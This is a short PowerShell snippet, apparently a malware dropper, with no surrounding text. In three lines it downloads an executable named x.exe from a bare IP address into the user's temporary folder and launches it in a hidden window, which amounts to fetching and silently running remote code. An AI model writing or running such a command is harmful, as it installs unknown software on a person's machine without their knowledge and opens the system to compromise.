$p = "$env:TEMP\x.exe"
Invoke-WebRequest 'http://192.0.2.7/x.exe' -OutFile $p
Start-Process $p -WindowStyle Hidden
